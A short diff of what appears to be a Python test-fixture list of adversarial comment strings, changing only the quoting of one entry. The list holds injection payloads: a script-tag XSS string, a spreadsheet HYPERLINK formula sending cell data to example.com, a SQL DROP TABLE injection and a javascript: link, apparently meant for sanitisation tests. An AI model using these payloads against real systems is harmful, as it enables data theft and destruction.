@@ -29,7 +29,7 @@ COMMENTS: Final = (
     "<script>alert('hello')</script>",
     '=HYPERLINK("http://example.com/?steal="&A1,"click me")',
     "+1-555-0100 call me, *urgent* <!channel>",
-    "She said \"it's broken\"; DROP TABLE feedback; --",
+    'She said "it\'s broken"; DROP TABLE feedback; --',
     "I ❤️ it 🎉 c'était très bien, 日本語もお願いします",
     "First line\nSecond line\r\n\tthird, with a tab | and a pipe",
     "[click](javascript:alert(1)) {{ template }} %s \\n & <b>",
